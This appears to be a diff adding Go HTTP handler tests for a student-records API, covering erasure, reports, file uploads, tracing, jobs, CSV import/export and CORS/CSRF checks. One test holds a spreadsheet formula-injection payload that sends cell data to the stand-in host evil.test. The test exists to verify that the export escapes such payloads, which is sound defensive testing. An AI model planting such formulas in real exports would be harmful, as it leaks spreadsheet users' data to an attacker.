+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+	w := create()
+	assert.Equal(t, http.StatusCreated, w.Code)
+	var response struct {
+		Data model.Student `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	created := &response.Data
+	assert.Equal(t, w.Body.String(), create().Body.String(), "the response is replayed before the erasure")
+
+	tests := []struct {
+		name       string
+		method     string
+		target     string
+		role       string
+		wantStatus int
+		want       string
+	}{
+		{name: "export", method: http.MethodGet, target: "/v1/api/students/" + created.ID + "/export",
+			wantStatus: http.StatusOK, want: `"email":"john@doe.com"`},
+		{name: "export needs admin", method: http.MethodGet, target: "/v1/api/students/" + created.ID + "/export",
+			role: pii.RoleStaff, wantStatus: http.StatusForbidden},
+		{name: "export unknown", method: http.MethodGet, target: "/v1/api/students/missing/export",
+			wantStatus: http.StatusNotFound},
+		{name: "erase needs admin", method: http.MethodPost, target: "/v1/api/students/" + created.ID + "/erase",
+			role: pii.RoleViewer, wantStatus: http.StatusForbidden},
+		{name: "erase", method: http.MethodPost, target: "/v1/api/students/" + created.ID + "/erase",
+			wantStatus: http.StatusOK, want: `"student_id":"` + created.ID + `"`},
+		{name: "erase again", method: http.MethodPost, target: "/v1/api/students/" + created.ID + "/erase",
+			wantStatus: http.StatusOK},
+		{name: "erased student is gone", method: http.MethodGet, target: "/v1/api/students/" + created.ID,
+			wantStatus: http.StatusNotFound},
+		{name: "erased student has nothing to export", method: http.MethodGet, target: "/v1/api/students/" + created.ID + "/export",
+			wantStatus: http.StatusNotFound},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.target, nil)
+			if tt.role != "" {
+				req.Header.Set(middleware.RoleHeader, tt.role)
+			}
+			w := httptest.NewRecorder()
+
+			r.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.wantStatus, w.Code)
+			if tt.want != "" {
+				assert.Contains(t, w.Body.String(), tt.want)
+			}
+		})
+	}
+
+	// Nothing kept for replays still holds the erased student's data.
+	w = create()
+	assert.Equal(t, http.StatusCreated, w.Code, "the retry runs again rather than being replayed")
+	assert.NotContains(t, w.Body.String(), created.ID)
+	sub := broker.Subscribe(model.DefaultTenantID, 1)
+	defer sub.Close()
+	var erasedEvents int
+	for _, event := range sub.Replay {
+		if event.StudentID == created.ID {
+			erasedEvents++
+			assert.Nil(t, event.Student, "%s is replayed without the student", event.Type)
+		}
+	}
+	assert.Equal(t, 2, erasedEvents, "created and erased")
+}
+
+func TestReportHandlers(t *testing.T) {
+	r, service := setupTestRouter()
+	for _, email := range []string{"a@doe.com", "b@doe.com"} {
+		_, err := service.CreateStudent(context.Background(), &model.Student{Name: "Doe", Email: email, Age: 20, Grade: "10"})
+		assert.NoError(t, err)
+	}
+	thisMonth := time.Now().Format("2006-01") + "-01"
+
+	tests := []struct {
+		name       string
+		target     string
+		accept     string
+		wantStatus int
+		want       string
+	}{
+		{name: "grades", target: "/v1/api/reports/grades", wantStatus: http.StatusOK, want: `[{"grade":"10","students":2}]`},
+		{name: "ages as csv", target: "/v1/api/reports/ages?format=csv", wantStatus: http.StatusOK, want: "age,students\n20,2\n"},
+		{name: "csv by accept header", target: "/v1/api/reports/grades", accept: "text/csv", wantStatus: http.StatusOK, want: "grade,students\n10,2\n"},
+		{name: "enrollments", target: "/v1/api/reports/enrollments?period=month", wantStatus: http.StatusOK,
+			want: `[{"period":"` + thisMonth + `","enrolled":2}]`},
+		{name: "churn", target: "/v1/api/reports/churn", wantStatus: http.StatusOK,
+			want: `[{"period":"` + thisMonth + `","enrolled":2,"withdrawn":0,"net":2}]`},
+		{name: "range excludes everything", target: "/v1/api/reports/grades?from=2000-01-01&to=2000-12-31", wantStatus: http.StatusOK,
+			want: `"data":[]`},
+		{name: "invalid date", target: "/v1/api/reports/ages?from=yesterday", wantStatus: http.StatusBadRequest},
+		{name: "inverted range", target: "/v1/api/reports/ages?from=2026-02-01&to=2026-01-01", wantStatus: http.StatusBadRequest},
+		{name: "invalid period", target: "/v1/api/reports/churn?period=year", wantStatus: http.StatusBadRequest},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(http.MethodGet, tt.target, nil)
+			if tt.accept != "" {
+				req.Header.Set("Accept", tt.accept)
+			}
+			w := httptest.NewRecorder()
+
+			r.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.wantStatus, w.Code)
+			if tt.want != "" {
+				assert.Contains(t, w.Body.String(), tt.want)
+			}
+		})
+	}
+}
+
+func TestFileHandlers(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	files, err := storage.NewLocal(t.TempDir())
+	assert.NoError(t, err)
+	cfg := service.DefaultConfig()
+	cfg.Files = files
+	cfg.MaxFileSize = 1 << 20
+	studentService := service.NewStudentServiceWithConfig(db, cfg)
+	r := setupRouter(studentService)
+
+	student, err := studentService.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+	base := "/v1/api/students/" + student.ID + "/files"
+
+	upload := func(kind, filename string, content []byte) *httptest.ResponseRecorder {
+		var body bytes.Buffer
+		form := multipart.NewWriter(&body)
+		if kind != "" {
+			assert.NoError(t, form.WriteField("kind", kind))
+		}
+		part, err := form.CreateFormFile("file", filename)
+		assert.NoError(t, err)
+		part.Write(content)
+		assert.NoError(t, form.Close())
+		req := httptest.NewRequest(http.MethodPost, base, &body)
+		req.Header.Set("Content-Type", form.FormDataContentType())
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	var img bytes.Buffer
+	assert.NoError(t, png.Encode(&img, image.NewGray(image.Rect(0, 0, 400, 400))))
+	w := upload("photo", "me.png", img.Bytes())
+	assert.Equal(t, http.StatusCreated, w.Code)
+	var created struct {
+		Data model.StudentFile `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &created))
+	photo := created.Data
+	assert.Equal(t, "image/png", photo.ContentType)
+	assert.True(t, photo.HasThumbnail)
+
+	w = upload("", "notes.txt", []byte("plain text notes"))
+	assert.Equal(t, http.StatusUnsupportedMediaType, w.Code)
+	w = upload("document", "big.pdf", append([]byte("%PDF-1.4\n"), make([]byte, 1<<20)...))
+	assert.Equal(t, http.StatusRequestEntityTooLarge, w.Code)
+
+	req := httptest.NewRequest(http.MethodGet, base+"/"+photo.ID, nil)
+	req.Header.Set("Range", "bytes=0-7")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusPartialContent, w.Code)
+	assert.Equal(t, img.Bytes()[:8], w.Body.Bytes())
+	assert.Equal(t, fmt.Sprintf("bytes 0-7/%d", img.Len()), w.Header().Get("Content-Range"))
+	assert.Equal(t, "image/png", w.Header().Get("Content-Type"))
+
+	req = httptest.NewRequest(http.MethodGet, base+"/"+photo.ID, nil)
+	req.Header.Set("If-None-Match", `"`+photo.SHA256+`"`)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusNotModified, w.Code)
+
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, base+"/"+photo.ID+"/thumbnail", nil))
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "image/jpeg", w.Header().Get("Content-Type"))
+	thumb, err := jpeg.DecodeConfig(w.Body)
+	assert.NoError(t, err)
+	assert.Equal(t, 256, thumb.Width)
+
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, base, nil))
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Body.String(), photo.ID)
+
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodDelete, base+"/"+photo.ID, nil))
+	assert.Equal(t, http.StatusOK, w.Code)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, base+"/"+photo.ID, nil))
+	assert.Equal(t, http.StatusNotFound, w.Code)
+}
+
+func TestRequestTimeouts(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	timeouts := middleware.NewTimeouts(time.Nanosecond, nil)
+	r := setupRouter(service.NewStudentService(db), withTimeouts(timeouts))
+
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/v1/api/students", nil))
+	assert.Equal(t, http.StatusGatewayTimeout, w.Code)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/v1/api/students/123", nil).WithContext(ctx))
+	assert.Equal(t, middleware.StatusClientClosedRequest, w.Code)
+
+	assert.Equal(t, []middleware.TimeoutStats{
+		{Route: "GET /v1/api/students", TimedOut: 1},
+		{Route: "GET /v1/api/students/:id", Canceled: 1},
+	}, timeouts.Stats())
+}
+
+func TestTracing(t *testing.T) {
+	exporter := tracetest.NewInMemoryExporter()
+	shutdown := tracing.Install(exporter, "test")
+	t.Cleanup(func() { shutdown(context.Background()) })
+
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	assert.NoError(t, db.Use(tracing.GormPlugin{}))
+	r := setupRouter(service.NewTracedStudentService(service.NewStudentService(db)))
+
+	const traceID = "4bf92f3577b34da6a3ce929d0e0e4736"
+	req := httptest.NewRequest(http.MethodGet, "/v1/api/students/123", nil)
+	req.Header.Set("traceparent", "00-"+traceID+"-00f067aa0ba902b7-01")
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusNotFound, w.Code)
+	assert.Contains(t, w.Header().Get("traceparent"), traceID, "the response continues the caller's trace")
+
+	names := make(map[string]tracetest.SpanStub)
+	for _, span := range exporter.GetSpans() {
+		assert.Equal(t, traceID, span.SpanContext.TraceID().String())
+		names[span.Name] = span
+	}
+	server := names["GET /v1/api/students/:id"]
+	assert.Equal(t, "00f067aa0ba902b7", server.Parent.SpanID().String())
+	assert.Equal(t, server.SpanContext.SpanID(), names["StudentService.GetStudentByID"].Parent.SpanID())
+	assert.Contains(t, names, "gorm.query")
+}
+
+func TestConnectWithRetry(t *testing.T) {
+	attempts := 0
+	db, err := connectWithRetry(func() (*gorm.DB, error) {
+		attempts++
+		if attempts < 3 {
+			return nil, errors.New("connection refused")
+		}
+		return gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	}, time.Second, time.Millisecond)
+	assert.NoError(t, err)
+	assert.NotNil(t, db)
+	assert.Equal(t, 3, attempts)
+
+	attempts = 0
+	_, err = connectWithRetry(func() (*gorm.DB, error) {
+		attempts++
+		return nil, errors.New("connection refused")
+	}, 20*time.Millisecond, 5*time.Millisecond)
+	assert.ErrorContains(t, err, "connection refused")
+	assert.Greater(t, attempts, 1)
+	assert.Less(t, attempts, 5, "the timeout bounds the wait")
+}
+
+func TestJobHandlers(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	sqlDB, _ := db.DB()
+	sqlDB.SetMaxOpenConns(1)
+	idempotencyStore, err := middleware.NewGormIdempotencyStore(db)
+	assert.NoError(t, err)
+	files, err := storage.NewLocal(t.TempDir())
+	assert.NoError(t, err)
+	ops, err := operations.New(db, files, operations.DefaultConfig())
+	assert.NoError(t, err)
+	jobs, err := setupScheduler(db, idempotencyStore, ops)
+	assert.NoError(t, err)
+	r := setupRouter(service.NewStudentService(db),
+		withTenants(service.NewTenantService(db), testAdminKey), withScheduler(jobs))
+
+	send := func(method, path, token string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, path, nil)
+		if token != "" {
+			req.Header.Set("Authorization", "Bearer "+token)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	w := send(http.MethodGet, "/v1/admin/jobs", "")
+	assert.Equal(t, http.StatusUnauthorized, w.Code)
+
+	w = send(http.MethodGet, "/v1/admin/jobs", testAdminKey)
+	assert.Equal(t, http.StatusOK, w.Code)
+	var list struct {
+		Data []model.JobStatus `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &list))
+	if assert.Len(t, list.Data, 3) {
+		assert.Equal(t, "fail-stale-operations", list.Data[0].Name)
+		assert.Equal(t, "purge-idempotency-keys", list.Data[1].Name)
+		assert.Equal(t, "@hourly", list.Data[1].Schedule)
+		assert.Nil(t, list.Data[1].LastRun)
+		assert.Equal(t, "purge-operations", list.Data[2].Name)
+	}
+
+	w = send(http.MethodPost, "/v1/admin/jobs/missing/run", testAdminKey)
+	assert.Equal(t, http.StatusNotFound, w.Code)
+	w = send(http.MethodPost, "/v1/admin/jobs/purge-idempotency-keys/run", testAdminKey)
+	assert.Equal(t, http.StatusAccepted, w.Code)
+	assert.Contains(t, w.Body.String(), `"trigger":"manual"`)
+
+	var runs struct {
+		Data []model.JobRun `json:"data"`
+	}
+	assert.Eventually(t, func() bool {
+		w := send(http.MethodGet, "/v1/admin/jobs/purge-idempotency-keys/runs?limit=5", testAdminKey)
+		return json.Unmarshal(w.Body.Bytes(), &runs) == nil && len(runs.Data) == 1 && runs.Data[0].Status == model.JobSucceeded
+	}, time.Second, 10*time.Millisecond)
+
+	w = send(http.MethodGet, "/v1/admin/jobs/purge-idempotency-keys/runs?limit=0", testAdminKey)
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+	w = send(http.MethodGet, "/v1/admin/jobs/missing/runs", testAdminKey)
+	assert.Equal(t, http.StatusNotFound, w.Code)
+}
+
+func TestOperationHandlers(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	sqlDB, _ := db.DB()
+	sqlDB.SetMaxOpenConns(1)
+	files, err := storage.NewLocal(t.TempDir())
+	assert.NoError(t, err)
+	ops, err := operations.New(db, files, operations.DefaultConfig())
+	assert.NoError(t, err)
+	stop := ops.Start()
+	defer stop()
+	r := setupRouter(service.NewStudentService(db), withOperations(ops), asAdmin)
+
+	send := func(method, path, contentType, body string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, path, strings.NewReader(body))
+		if contentType != "" {
+			req.Header.Set("Content-Type", contentType)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+	await := func(location string) model.Operation {
+		var resp struct {
+			Data model.Operation `json:"data"`
+		}
+		assert.Eventually(t, func() bool {
+			w := send(http.MethodGet, location, "", "")
+			return w.Code == http.StatusOK && json.Unmarshal(w.Body.Bytes(), &resp) == nil && resp.Data.Done()
+		}, 2*time.Second, 10*time.Millisecond)
+		return resp.Data
+	}
+
+	roster := "Name,Email,Age,Grade,Guardian_Name,Guardian_Phone\n" +
+		"Ada Lovelace,ada@example.com,12,7,Anne Lovelace,+44 20 7946 0000\n" +
+		"Bad Age,bad@example.com,twelve,7,,\n" +
+		"Alan Turing,alan@example.com,18,12,,\n"
+	w := send(http.MethodPost, "/v1/api/students:import", "text/csv", roster)
+	assert.Equal(t, http.StatusAccepted, w.Code)
+	location := w.Header().Get("Location")
+	assert.True(t, strings.HasPrefix(location, "/v1/api/operations/"))
+
+	op := await(location)
+	assert.Equal(t, model.OperationSucceeded, op.Status)
+	assert.Equal(t, int64(3), op.Total)
+	assert.Equal(t, int64(3), op.Processed)
+	assert.Equal(t, int64(1), op.Failed)
+	assert.Equal(t, 100, op.Percent)
+
+	w = send(http.MethodGet, location+"/result", "", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Header().Get("Content-Disposition"), "import-results.csv")
+	assert.Contains(t, w.Body.String(), `3,failed,,"invalid age ""twelve"""`)
+
+	w = send(http.MethodPost, "/v1/api/students:export", "", "")
+	assert.Equal(t, http.StatusAccepted, w.Code)
+	location = w.Header().Get("Location")
+	op = await(location)
+	assert.Equal(t, model.OperationSucceeded, op.Status)
+	assert.Equal(t, int64(2), op.Total)
+	w = send(http.MethodGet, location+"/result", "", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.True(t, strings.HasPrefix(w.Body.String(), "id,name,email,age,grade,status,created_at\n"))
+	assert.Contains(t, w.Body.String(), "ada@example.com")
+	assert.Contains(t, w.Body.String(), "alan@example.com")
+
+	// The unmasked export is not for viewers.
+	req := httptest.NewRequest(http.MethodGet, location+"/result", nil)
+	req.Header.Set(middleware.RoleHeader, pii.RoleViewer)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusForbidden, w.Code)
+	assert.NotContains(t, w.Body.String(), "ada")
+
+	// Erasing a student drops every export that may list them.
+	w = send(http.MethodGet, location+"/result", "", "")
+	lines := strings.Split(w.Body.String(), "\n")
+	assert.Greater(t, len(lines), 2)
+	id, _, _ := strings.Cut(lines[1], ",")
+	w = send(http.MethodPost, "/v1/api/students/"+id+"/erase", "", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	w = send(http.MethodGet, location+"/result", "", "")
+	assert.Equal(t, http.StatusConflict, w.Code)
+
+	w = send(http.MethodPost, location+":cancel", "", "")
+	assert.Equal(t, http.StatusConflict, w.Code)
+	w = send(http.MethodPost, location+":frobnicate", "", "")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+	w = send(http.MethodGet, "/v1/api/operations/missing/result", "", "")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+}
+
+func TestLoadTestCommand(t *testing.T) {
+	var out bytes.Buffer
+	err := runLoadTest([]string{"-target", "", "-requests", "100", "-concurrency", "1", "-prefill", "5", "-format", "json"}, &out)
+	assert.NoError(t, err)
+
+	var report loadtest.Report
+	assert.NoError(t, json.Unmarshal(out.Bytes(), &report))
+	assert.Equal(t, 100, report.Requests)
+	assert.Zero(t, report.Errors, report.ErrorBreakdown)
+	assert.Len(t, report.Operations, 5)
+
+	assert.ErrorContains(t, runLoadTest([]string{"-mix", "create=1,fetch=1"}, &out), "unknown operation")
+}
+
+func TestCSVFormulaEscaping(t *testing.T) {
+	r, service := setupTestRouter()
+	created, err := service.CreateStudent(context.Background(), &model.Student{
+		Name: `=HYPERLINK("http://evil.test/?"&A1,"Open")`, Email: "eve@example.com", Age: 20, Grade: "10",
+	})
+	assert.NoError(t, err)
+
+	req := httptest.NewRequest(http.MethodGet, "/v1/api/students", nil)
+	req.Header.Set("Accept", mimeCSV)
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusOK, w.Code)
+	records, err := csv.NewReader(w.Body).ReadAll()
+	assert.NoError(t, err)
+	if assert.Len(t, records, 2) {
+		assert.Equal(t, []string{created.ID, `'=HYPERLINK("http://evil.test/?"&A1,"Open")`, "eve@example.com", "20", "10", "enrolled"}, records[1][:6])
+	}
+
+	tests := map[string]string{
+		"+1-555-0100": "'+1-555-0100",
+		"-2+3":        "'-2+3",
+		"@SUM(A1:A2)": "'@SUM(A1:A2)",
+		"\tcmd":       "'\tcmd",
+		"-2":          "-2",
+		"3.5":         "3.5",
+		"Ann-Marie":   "Ann-Marie",
+		"":            "",
+	}
+	for cell, want := range tests {
+		assert.Equal(t, want, escapeCSVCell(cell), "%q", cell)
+	}
+}
+
+func TestStudentFormats(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	studentService := service.NewStudentService(db)
+	r := setupRouter(studentService, withCompression(256), asAdmin)
+
+	var created []*model.Student
+	for i := range 10 {
+		student, err := studentService.CreateStudent(context.Background(), &model.Student{
+			Name: fmt.Sprintf("Student %d", i), Email: fmt.Sprintf("student%d@example.com", i), Age: 20, Grade: "10",
+		})
+		assert.NoError(t, err)
+		created = append(created, student)
+	}
+
+	get := func(target, accept, role string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodGet, target, nil)
+		if accept != "" {
+			req.Header.Set("Accept", accept)
+		}
+		if role != "" {
+			req.Header.Set(middleware.RoleHeader, role)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	w := get("/v1/api/students", "text/csv", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "text/csv; charset=utf-8", w.Header().Get("Content-Type"))
+	assert.Equal(t, "Accept", w.Header().Get("Vary"))
+	lines := strings.Split(strings.TrimSpace(w.Body.String()), "\n")
+	assert.Len(t, lines, 11)
+	assert.Equal(t, "id,name,email,age,grade,status,created_at", lines[0])
+	assert.True(t, strings.HasPrefix(lines[1], created[0].ID+",Student 0,student0@example.com,20,10,enrolled,"))
+
+	w = get("/v1/api/students", "application/x-ndjson", pii.RoleViewer)
+	assert.Equal(t, mimeNDJSON, w.Header().Get("Content-Type"))
+	lines = strings.Split(strings.TrimSpace(w.Body.String()), "\n")
+	assert.Len(t, lines, 10)
+	var first model.Student
+	assert.NoError(t, json.Unmarshal([]byte(lines[0]), &first))
+	assert.Equal(t, created[0].ID, first.ID)
+	assert.Equal(t, "s***@example.com", first.Email, "other formats are masked too")
+
+	w = get("/v1/api/students/"+created[3].ID, "application/msgpack", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, mimeMsgPack, w.Header().Get("Content-Type"))
+	var packed struct {
+		Success bool `codec:"success"`
+		Data    struct {
+			ID        string    `codec:"id"`
+			Email     string    `codec:"email"`
+			CreatedAt time.Time `codec:"created_at"`
+		} `codec:"data"`
+	}
+	assert.NoError(t, codec.NewDecoderBytes(w.Body.Bytes(), &codec.MsgpackHandle{}).Decode(&packed))
+	assert.True(t, packed.Success)
+	assert.Equal(t, created[3].ID, packed.Data.ID)
+	assert.Equal(t, "student3@example.com", packed.Data.Email)
+	assert.WithinDuration(t, created[3].CreatedAt, packed.Data.CreatedAt, time.Second)
+
+	w = get("/v1/api/students/"+created[3].ID, "text/html, application/*;q=0.5", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Equal(t, "application/json; charset=utf-8", w.Header().Get("Content-Type"))
+
+	w = get("/v1/api/students", "text/html", "")
+	assert.Equal(t, http.StatusNotAcceptable, w.Code)
+	assert.Contains(t, w.Body.String(), "available types are application/json, text/csv")
+	w = get("/v1/api/students/"+created[0].ID, "application/xml", "")
+	assert.Equal(t, http.StatusNotAcceptable, w.Code)
+
+	req := httptest.NewRequest(http.MethodGet, "/v1/api/students", nil)
+	req.Header.Set("Accept-Encoding", "gzip")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, "gzip", w.Header().Get("Content-Encoding"))
+	reader, err := gzip.NewReader(w.Body)
+	assert.NoError(t, err)
+	var list struct {
+		Data []model.Student `json:"data"`
+	}
+	assert.NoError(t, json.NewDecoder(reader).Decode(&list))
+	assert.Len(t, list.Data, 10)
+}
+
+func TestBrowserMiddleware(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	cors := middleware.DefaultCORSConfig()
+	cors.AllowedOrigins = []string{"https://admin.example.com"}
+	cors.AllowCredentials = true
+	r := setupRouter(service.NewStudentService(db), withCORS(cors))
+
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/health", nil))
+	assert.Equal(t, "nosniff", w.Header().Get("X-Content-Type-Options"))
+	assert.NotEmpty(t, w.Header().Get("Content-Security-Policy"))
+	assert.NotEmpty(t, w.Header().Get("Strict-Transport-Security"))
+
+	// Preflights reach no route, and carry no cookies for CSRF to check.
+	req := httptest.NewRequest(http.MethodOptions, "/v1/api/students", nil)
+	req.Header.Set("Origin", "https://admin.example.com")
+	req.Header.Set("Access-Control-Request-Method", http.MethodPost)
+	req.Header.Set("Access-Control-Request-Headers", "Content-Type, X-CSRF-Token")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusNoContent, w.Code)
+	assert.Equal(t, "https://admin.example.com", w.Header().Get("Access-Control-Allow-Origin"))
+	assert.Equal(t, "true", w.Header().Get("Access-Control-Allow-Credentials"))
+
+	body := `{"name":"Ada Lovelace","email":"ada@example.com","age":20,"grade":"10"}`
+	req = httptest.NewRequest(http.MethodPost, "/v1/api/students", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	req.AddCookie(&http.Cookie{Name: "session", Value: "abc"})
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusForbidden, w.Code, "browser sessions need a CSRF token")
+
+	req = httptest.NewRequest(http.MethodPost, "/v1/api/students", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusCreated, w.Code)
+}